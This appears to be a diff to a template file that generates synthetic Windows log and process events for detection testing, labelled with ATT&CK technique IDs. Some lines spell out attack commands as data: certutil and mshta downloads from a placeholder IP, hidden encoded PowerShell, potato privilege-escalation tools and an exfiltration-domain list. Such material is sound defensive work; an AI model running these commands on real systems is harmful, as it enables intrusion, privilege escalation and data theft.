@@ -37,10 +37,10 @@ winrm-child process +T1021.006: @ ;; «"C:\Windows\system32\cmd.exe" /C «whoami
 winrm-91 log +T1021.006: Microsoft-Windows-WinRM|Microsoft-Windows-WinRM/Operational|91 ;; resourceUri=http://schemas.microsoft.com/«powershell/Microsoft.PowerShell¦wbem/wsman/1/windows/shell/cmd» ;; authFailureMessage= ;; clientIP=‹ip›
 winrm-6 log +T1021.006: Microsoft-Windows-WinRM|Microsoft-Windows-WinRM/Operational|6 ;; connection=«‹server›¦‹ip›»/wsman?PSVersion=5.1.«17763¦19041».‹pid›
 near-winrm log: Microsoft-Windows-WinRM|Microsoft-Windows-WinRM/Operational|«208¦209¦10149¦161¦162» ;; operationName=«Service¦Get¦Enumerate» ;; errorCode=«0¦2150858770»
-winrm-port connected +T1021.006: «‹own›¦‹s32›\winrs.exe» ;; «5985¦5986» ;; «‹server›.‹fqdn›¦-»
+winrm-port connected +T1021.006: «‹own›¦‹s32›\winrs.exe» ;; «5985¦5986» ;; «‹host›.‹fqdn›¦-»
 rdp-tunnel connected +T1572: «‹ownplace›\«plink¦ngrok¦chisel¦PLINK».exe» ;; 3389 ;; «-¦‹server›»
-rdp-svchost-loop connected +T1021.001: «‹own›¦‹ps›» ;; 3389 ;; «‹server›.‹fqdn›¦-»
-near-rdp connected: ‹s32›\«mstsc¦svchost».exe ;; 3389 ;; «‹server›.‹fqdn›¦-»
+rdp-svchost-loop connected +T1021.001: «‹own›¦‹ps›» ;; 3389 ;; «‹host›.‹fqdn›¦-»
+near-rdp connected: ‹s32›\«mstsc¦svchost».exe ;; 3389 ;; «‹host›.‹fqdn›¦-»
 rdp-tscon process +T1563.002: ‹s32›\tscon.exe ;; «tscon.exe¦tscon» ‹n› /dest:«rdp-tcp#‹n›¦console» ;; «‹cmd›¦‹s32›\services.exe»
 rdp-loopback-1149 security +T1021.001: 4624 ;; TargetUserName=‹user› ;; TargetDomainName=‹domain› ;; LogonType=10 ;; LogonProcessName=User32 ;; AuthenticationPackageName=Negotiate ;; WorkstationName=‹server› ;; ProcessName=‹s32›\«svchost¦winlogon».exe ;; IpAddress=«127.0.0.1¦::1»
 dcom-mmc-child process +T1021.003: @ ;; «"C:\Windows\System32\cmd.exe" /c «whoami¦‹own›¦powershell -enc ‹enc›»¦powershell.exe -nop -w hidden -enc ‹enc›¦cmd.exe /Q /c cd \ 1> \\127.0.0.1\ADMIN$\__17‹pid› 2>&1» ;; ‹s32›\mmc.exe ;; C:\Windows\system32\mmc.exe -Embedding
@@ -63,7 +63,7 @@ svchost-odd-parent process +T1036.005: @ ;; «C:\Windows\System32\svchost.exe¦"
 token-parent-spoof process +T1134.004: ‹cmd› ;; cmd.exe ;; ‹lsass› ;; C:\Windows\system32\lsass.exe
 token-winlogon-access access +T1134.001: «‹own›¦‹ps›» ;; ‹s32›\«winlogon¦wininit¦spoolsv».exe ;; «0x1f3fff¦0x1478¦0x1fffff» ;; C:\Windows\System32\KERNELBASE.dll|UNKNOWN(‹hex›)
 token-right-4703 security +T1134: 4703 ;; TargetUserName=‹user› ;; EnabledPrivilegeList=SeDebugPrivilege ;; DisabledPrivilegeList=- ;; ProcessName=‹own› ;; ProcessId=0x‹pid›
-near-right-4703 security: 4703 ;; TargetUserName=‹server›$ ;; EnabledPrivilegeList=«SeAssignPrimaryTokenPrivilege SeIncreaseQuotaPrivilege SeSecurityPrivilege SeTakeOwnershipPrivilege SeLoadDriverPrivilege SeSystemtimePrivilege SeBackupPrivilege SeRestorePrivilege¦SeShutdownPrivilege» ;; DisabledPrivilegeList=- ;; ProcessName=«‹s32›\«svchost¦msiexec¦TiWorker».exe¦C:\Windows\CCM\CcmExec.exe» ;; ProcessId=0x‹pid›
+near-right-4703 security: 4703 ;; TargetUserName=‹host›$ ;; EnabledPrivilegeList=«SeAssignPrimaryTokenPrivilege SeIncreaseQuotaPrivilege SeSecurityPrivilege SeTakeOwnershipPrivilege SeLoadDriverPrivilege SeSystemtimePrivilege SeBackupPrivilege SeRestorePrivilege¦SeShutdownPrivilege» ;; DisabledPrivilegeList=- ;; ProcessName=«‹s32›\«svchost¦msiexec¦TiWorker».exe¦C:\Windows\CCM\CcmExec.exe» ;; ProcessId=0x‹pid›
 potato-process process +T1134.001: @ ;; ‹ownplace›\«JuicyPotato¦JuicyPotatoNG¦PrintSpoofer¦PrintSpoofer64¦RoguePotato¦SweetPotato¦GodPotato-NET4¦EfsPotato».exe «-i -c cmd¦-t * -p cmd.exe -l 1337¦-c "cmd /c whoami"¦-cmd "cmd /c whoami"¦-r ‹ip› -e cmd.exe»
 # Execution by documents and scripts
 office-shell process +T1204.002: @ ;; «cmd.exe /c ‹own›¦powershell -nop -w hidden -enc ‹enc›¦wscript.exe ‹ownplace›\‹name›.vbs¦mshta.exe http://‹ip›/‹name›.hta¦rundll32.exe ‹ownplace›\‹name›.dll,‹Word›¦regsvr32.exe /s ‹ownplace›\‹name›.ocx¦‹own›¦cmd /c certutil -urlcache -f http://‹ip›/‹name›.exe ‹own› && ‹own›» ;; ‹office› ;; "C:\Program Files\Microsoft Office\Root\Office16\WINWORD.EXE" /n "C:\Users\‹user›\Downloads\‹name›.docm" /o ""
@@ -96,10 +96,10 @@ remote-tool-dns asked +T1219.002: «‹own›¦C:\Program Files (x86)\«AnyDesk\
 exfil-dns asked +T1567.002: «‹own›¦‹ps›¦‹ownplace›\«rclone¦megacmd».exe» ;; «g.api.mega.co.nz¦gfs‹n›n‹n›.userstorage.mega.co.nz¦api.anonfiles.com¦transfer.sh¦content.dropboxapi.com»
 paste-dns asked +T1102: «‹own›¦‹ps›¦‹sys›\«rundll32¦mshta¦wscript¦regsvr32».exe» ;; «pastebin.com¦paste.ee¦rentry.co¦ghostbin.com¦cdn.discordapp.com»
 dns-tunnel asked +T1071.004: «‹own›¦‹ps›¦‹sys›\nslookup.exe» ;; ‹hash›‹hash›.‹name›.«com¦xyz»
-near-dns-script asked: «‹ps›¦‹own›» ;; «‹server›.‹fqdn›¦psgallery.azureedge.net¦www.powershellgallery.com¦go.microsoft.com¦login.microsoftonline.com¦graph.microsoft.com¦‹fqdn›»
-near-dns asked: «‹browser›¦‹s32›\svchost.exe¦C:\Program Files\‹Word›\‹name›.exe» ;; «‹server›.‹fqdn›¦www.microsoft.com¦settings-win.data.microsoft.com¦pastebin.com¦discord.com¦github.com¦www.dropbox.com¦_ldap._tcp.dc._msdcs.‹fqdn›¦psgallery.azureedge.net»
-near-net connected: «‹browser›¦‹s32›\svchost.exe¦C:\Program Files\‹Word›\‹name›.exe¦C:\Windows\System32\«MpCmdRun¦backgroundTaskHost».exe» ;; «80¦443¦8080¦53¦8443» ;; «-¦‹server›.‹fqdn›¦www.bing.com»
-near-net-port connected: C:\Program Files\‹Word›\‹name›.exe ;; «8888¦9100¦5432¦1433¦27017» ;; ‹server›.‹fqdn›
+near-dns-script asked: «‹ps›¦‹own›» ;; «‹host›.‹fqdn›¦psgallery.azureedge.net¦www.powershellgallery.com¦go.microsoft.com¦login.microsoftonline.com¦graph.microsoft.com¦‹fqdn›»
+near-dns asked: «‹browser›¦‹s32›\svchost.exe¦C:\Program Files\‹Word›\‹name›.exe» ;; «‹host›.‹fqdn›¦www.microsoft.com¦settings-win.data.microsoft.com¦pastebin.com¦discord.com¦github.com¦www.dropbox.com¦_ldap._tcp.dc._msdcs.‹fqdn›¦psgallery.azureedge.net»
+near-net connected: «‹browser›¦‹s32›\svchost.exe¦C:\Program Files\‹Word›\‹name›.exe¦C:\Windows\System32\«MpCmdRun¦backgroundTaskHost».exe» ;; «80¦443¦8080¦53¦8443» ;; «-¦‹host›.‹fqdn›¦www.bing.com»
+near-net-port connected: C:\Program Files\‹Word›\‹name›.exe ;; «8888¦9100¦5432¦1433¦27017» ;; ‹host›.‹fqdn›
 download-file-motw stream +T1105: «‹ps›¦‹sys›\certutil.exe¦‹sys›\bitsadmin.exe» ;; ‹ownplace›\‹name›.«exe¦ps1¦dll¦hta»:Zone.Identifier ;; [ZoneTransfer]  ZoneId=3  HostUrl=http://‹ip›/‹name›.exe
 near-motw stream: ‹browser› ;; C:\Users\‹user›\Downloads\‹name›.«exe¦zip¦pdf¦msi»:Zone.Identifier ;; [ZoneTransfer]  ZoneId=3  ReferrerUrl=https://‹fqdn›/  HostUrl=https://‹fqdn›/‹name›.zip
 # Impact
